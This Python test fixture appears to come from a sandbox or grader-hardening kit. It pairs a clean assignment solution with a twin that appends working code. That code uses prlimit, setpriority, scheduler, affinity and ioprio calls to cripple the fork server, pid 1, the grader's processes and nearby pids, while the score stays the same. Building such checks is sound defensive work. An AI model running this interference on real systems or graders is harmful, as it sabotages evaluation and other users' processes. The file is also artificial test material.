from ._snippets import SHA, solution_text

ASSIGNMENT = SHA
TAG = "rlimit"
ATTACK = ("changes other processes' limits and scheduling: prlimit (open files 3, file size 0, processes 0) on "
          "its fork server, pid 1, the grader's processes, every nearby pid and a bystander; setpriority on "
          "processes, its group and its user; sched_setaffinity/setscheduler and ioprio_set on others")
CODE = solution_text(ASSIGNMENT) + '''
import ctypes
import os
import resource

_libc = ctypes.CDLL(None, use_errno=True)
_me = os.getpid()
_parent = os.getppid()
_targets = sorted({_parent, 1, __BYSTANDER__, *range(max(2, _parent - 40), _parent + 40)} - {_me})
_changed, _tried = [], 0
for _pid in _targets:
    for _limit, _value in ((resource.RLIMIT_NOFILE, 3), (resource.RLIMIT_FSIZE, 0), (resource.RLIMIT_NPROC, 0),
                           (resource.RLIMIT_AS, 1 << 20)):
        _tried += 1
        try:
            resource.prlimit(_pid, _limit, (_value, _value))
            _changed.append(("prlimit", _pid, _limit))
        except (OSError, ValueError):
            pass
    for _name, _call in (
            ("nice", lambda: os.setpriority(os.PRIO_PROCESS, _pid, 19)),
            ("affinity", lambda: os.sched_setaffinity(_pid, {0})),
            ("scheduler", lambda: os.sched_setscheduler(_pid, os.SCHED_IDLE, os.sched_param(0))),
            ("ioprio", lambda: _libc.syscall(251 if os.uname().machine == "x86_64" else 30, 1, _pid, 7 << 13))):
        _tried += 1
        try:
            if _call() not in (None, 0) and ctypes.get_errno():
                raise OSError(ctypes.get_errno(), _name)
            _changed.append((_name, _pid))
        except OSError:
            pass
for _which, _who in ((os.PRIO_USER, os.getuid()), (os.PRIO_USER, __GRADER_UID__), (os.PRIO_PGRP, 0),
                     (os.PRIO_PGRP, os.getpgid(_parent) if hasattr(os, "getpgid") else 0)):
    _tried += 1
    try:
        os.setpriority(_which, _who, 19)
        _changed.append(("nice-group", _which, _who))
    except OSError:
        pass
if _changed:
    print("ATTNKIT-LEAK changed limits or scheduling of other processes:", _changed[:10])
print("limits of others: tried", _tried, "changed", len(_changed))
'''
TWIN = solution_text(ASSIGNMENT)
EVIDENCE = "limits of others: tried"
SAME_SCORE = True
